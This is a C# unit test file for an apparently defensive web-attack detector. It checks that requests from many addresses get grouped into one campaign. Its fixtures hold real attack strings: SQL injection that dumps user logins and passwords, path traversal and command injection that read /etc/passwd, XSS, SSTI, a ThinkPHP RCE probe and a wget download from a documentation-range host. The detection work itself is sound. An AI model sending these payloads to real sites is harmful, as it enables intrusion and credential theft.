using Palisade.Engine.Incidents;
using Palisade.Protocol;

namespace Palisade.Engine.Tests.Incidents;

/// <summary>One page attacked from many addresses, of one network or of anywhere: one campaign, not one for each and not none.</summary>
public sealed class NetworkTests
{
    private const string Injection = "1%27%20union%20select%201,2--";

    private static SiteLog Day() => new SiteLog().People(300);

    private static string Near(int n) => $"203.0.113.{n + 1}";

    private static string Anywhere(int n) => $"{60 + n % 60}.{n}.7.{n * 7 % 250}";

    private static string Told(IReadOnlyList<Incident> incidents) => string.Join("; ", incidents.Select(i => $"{i.Class} {i.Outcome} {i.SourceCount} sources {i.Count} records {string.Join(',', i.Targets.Take(3))}"));

    private static Incident Only(SiteLog log)
    {
        var incidents = log.Run();
        Assert.True(incidents.Count == 1, Told(incidents));
        return incidents[0];
    }

    public static TheoryData<int, int, int, bool> Sizes()
    {
        var data = new TheoryData<int, int, int, bool>();
        foreach (var (addresses, tries) in new[] { (3, 3), (5, 1), (12, 1), (12, 3), (60, 1), (200, 2) })
            foreach (var status in new[] { 200, 403, 404, 500 })
                foreach (var near in new[] { true, false }) data.Add(addresses, tries, status, near);
        return data;
    }

    [Theory]
    [MemberData(nameof(Sizes))]
    public void A_page_tried_from_many_addresses_a_time_or_two_each_is_one_campaign(int addresses, int tries, int status, bool near)
    {
        var log = Day();
        for (var a = 0; a < addresses; a++)
            for (var i = 0; i < tries; i++) log.Get(1_000 + a * 20 + i * 3, near ? Near(a) : Anywhere(a), $"/goods/list?page={a}{Injection}", status, status == 200 ? 9_000 : 162, agent: SiteLog.Chrome + a % 5);
        var incident = Only(log);
        Assert.Equal(("sqli", addresses, addresses * tries), (incident.Class, incident.SourceCount, incident.Count));
        Assert.Equal(status switch { 200 => AttackOutcome.Unknown, 403 => AttackOutcome.Blocked, _ => AttackOutcome.Failed }, incident.Outcome);
        Assert.Equal("/goods/list", incident.Targets.First());
    }

    [Theory]
    [InlineData("/goods/4007.html", "view=..%2f..%2f..%2f..%2fetc%2fpasswd", "path_traversal")]
    [InlineData("/api/orders", "orderId=1%3Bcat%20/etc/passwd", "cmdi")]
    [InlineData("/passport/page.html", "back=%3Cscript%3Ealert(1)%3C/script%3E", "xss")]
    [InlineData("/", "x=%7B%7B7*7%7D%7D", "ssti")]
    public void Other_pages_and_methods_are_told_the_same(string page, string query, string attackClass)
    {
        var log = Day();
        for (var a = 0; a < 20; a++) log.Get(2_000 + a * 31, Near(a), $"{page}?{query}", 200, 9_000);
        var incident = Only(log);
        Assert.Equal((attackClass, 20), (incident.Class, incident.SourceCount));
    }

    [Fact]
    public void What_a_network_varies_from_address_to_address_is_one_campaign_and_gets_as_far_as_its_best_try()
    {
        string[] tries = ["1%27", "1%27%20and%201=1--", "1%27%20and%201=2--", "1%27%20order%20by%209--", Injection, "1%27%20and%20sleep(5)--"];
        var log = Day();
        for (var a = 0; a < 30; a++) log.Get(2_000 + a * 40, Near(a * 3), $"/goods/list?page={tries[a % tries.Length]}", 200, 9_000);
        log.Get(3_500, Near(95), "/goods/list?page=1%27%20union%20select%20login,pass%20from%20users--", 200, 900_000);
        var incident = Only(log);
        Assert.Equal(("sqli", AttackOutcome.Likely), (incident.Class, incident.Outcome));
        Assert.InRange(incident.SourceCount, 25, 31);
    }

    public static TheoryData<int, bool> Orders()
    {
        var data = new TheoryData<int, bool>();
        for (var order = 0; order < 6; order++) { data.Add(order, true); data.Add(order, false); }
        return data;
    }

    /// <summary>One address looks for pages, many try one page, one works on it until it gives way: in each order.</summary>
    [Theory]
    [MemberData(nameof(Orders))]
    public void Phases_of_one_network_are_one_campaign_in_whatever_order(int order, bool refused)
    {
        var log = Day();
        int[][] orders = [[0, 1, 2], [0, 2, 1], [1, 0, 2], [1, 2, 0], [2, 0, 1], [2, 1, 0]];
        for (var p = 0; p < 3; p++)
        {
            var t = 1_000 + 1_200 * Array.IndexOf(orders[order], p);
            if (p == 0) for (var i = 0; i < 30; i++) log.Get(t + i, Near(1), $"/old{(char)('a' + i % 26)}/{(char)('a' + i / 5)}.php", 404, 153, agent: "curl/8.5");
            if (p == 1) for (var a = 0; a < 20; a++) log.Get(t + a * 20, Near(a + 40), $"/goods/list?page=1{Injection}", refused ? 403 : 200, refused ? 162 : 9_000);
            if (p == 2) for (var i = 0; i < 9; i++) log.Get(t + i * 9, Near(99), $"/goods/list?page={i}%27%20and%20{i}={i}--", 200, i == 8 ? 900_000 : 9_000);
        }
        var incident = Only(log);
        Assert.Equal(("sqli", AttackOutcome.Likely, 22), (incident.Class, incident.Outcome, incident.SourceCount));
    }

    [Fact]
    public void A_network_that_goes_on_to_another_page_is_the_same_campaign()
    {
        var log = Day();
        for (var a = 0; a < 10; a++) log.Get(1_000 + a * 20, Near(a), $"/goods/list?page=1{Injection}", 200, 9_000).Get(3_000 + a * 20, Near(a + 100), $"/api/orders?orderId=1{Injection}", 500, 162);
        Assert.Equal(20, Only(log).SourceCount);
    }

    [Fact]
    public void People_who_follow_a_strange_link_and_search_engines_are_none()
    {
        var log = Day();
        for (var p = 0; p < 40; p++) log.Get(1_000 + p * 30, $"36.9.{p}.7", "/s/app.js", referrer: "https://shop.test/").Get(1_001 + p * 30, $"36.9.{p}.7", $"/goods/list?page=1{Injection}", 200, 9_000, "https://forum.test/");
        for (var a = 0; a < 20; a++) log.Get(4_000 + a * 30, $"66.249.66.{a}", $"/goods/list?page=1{Injection}", 200, 9_000, agent: "Mozilla/5.0 (compatible; Examplebot/2.1; +http://bot.test)");
        var incidents = log.Run();
        Assert.True(incidents.Count == 0, Told(incidents));
    }

    [Fact]
    public void What_everybody_searches_for_everywhere_is_one_pool_and_a_few_tries_are_none()
    {
        var log = Day();
        for (var a = 0; a < 60; a++) log.Get(1_000 + a * 60, Anywhere(a), a % 2 == 0 ? "/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo" : "/cgi-bin/luci?x=;wget%20http://192.0.2.9/k", 404, 153);
        var incident = Only(log);
        Assert.Equal("probe", incident.Class);
        var few = Day();
        for (var a = 0; a < 4; a++) few.Get(1_000 + a * 60, Near(a), $"/goods/list?page=1{Injection}", 200, 9_000);
        Assert.Empty(few.Run());
    }
}
